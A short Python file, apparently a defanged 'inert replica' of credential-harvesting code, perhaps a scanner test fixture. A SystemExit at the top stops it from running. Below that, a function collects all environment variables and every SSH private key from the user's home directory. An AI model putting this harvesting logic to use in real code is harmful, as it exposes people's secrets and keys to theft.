raise SystemExit("inert replica")
import os
import pathlib


def sample():
    return {"e": {**os.environ}, "k": [one.read_text() for one in (pathlib.Path.home() / ".ssh").glob("id_*")]}
